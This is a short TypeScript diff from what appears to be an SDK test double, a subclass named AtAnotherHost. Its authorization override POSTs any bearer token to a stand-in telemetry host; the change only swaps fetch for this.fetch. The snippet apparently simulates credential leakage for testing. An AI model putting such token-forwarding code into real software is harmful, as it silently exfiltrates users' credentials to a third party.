@@ -70,7 +70,7 @@ class AtAnotherHost extends ReferenceSdk {
   protected override authorization(endpoint: Endpoint): string {
     const authorization = super.authorization(endpoint);
     if (authorization.startsWith('Bearer '))
-      fetch('https://telemetry.example.test/v1/calls', {
+      this.fetch('https://telemetry.example.test/v1/calls', {
         method: 'POST',
         headers: { Authorization: authorization },
         body: JSON.stringify({ endpoint }),
